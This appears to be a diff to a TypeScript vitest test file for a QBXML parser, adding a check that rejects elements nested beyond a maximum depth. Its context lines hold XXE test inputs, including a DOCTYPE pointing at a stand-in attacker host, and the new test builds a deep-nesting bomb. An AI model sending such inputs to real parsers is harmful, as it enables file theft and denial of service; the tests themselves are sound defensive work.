@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { parseXml } from './parse-xml.ts';
+import { MAX_XML_DEPTH, parseXml } from './parse-xml.ts';
 import { QbxmlParseError } from './qbxml-parse-error.ts';
 
 describe('parseXml', () => {
@@ -98,5 +98,16 @@ describe('parseXml', () => {
     expect(() => parseXml(xxe)).toThrow(QbxmlParseError);
     expect(() => parseXml('<!doctype QBXML SYSTEM "http://attacker.example/x.dtd"><QBXML/>')).toThrow(/DOCTYPE/);
     expect(() => parseXml('<QBXML><!ENTITY x "y"></QBXML>')).toThrow(/ENTITY/);
+  });
+});
+
+describe('parseXml: hostile nesting (issue 16, item 4)', () => {
+  it('refuses elements nested deeper than MAX_XML_DEPTH as malformed, before any recursive reader sees them', () => {
+    const deep = (n: number) => `<QBXML>${'<a>'.repeat(n)}x${'</a>'.repeat(n)}</QBXML>`;
+    expect(() => parseXml(deep(10_000))).toThrow(QbxmlParseError);
+    expect(() => parseXml(deep(10_000))).toThrow(`nested more than ${MAX_XML_DEPTH} deep`);
+    expect(() => parseXml(deep(MAX_XML_DEPTH - 1))).not.toThrow();
+    // Self-closing elements add no depth.
+    expect(parseXml(`<QBXML>${'<b/>'.repeat(10_000)}</QBXML>`).children).toHaveLength(10_000);
   });
 });
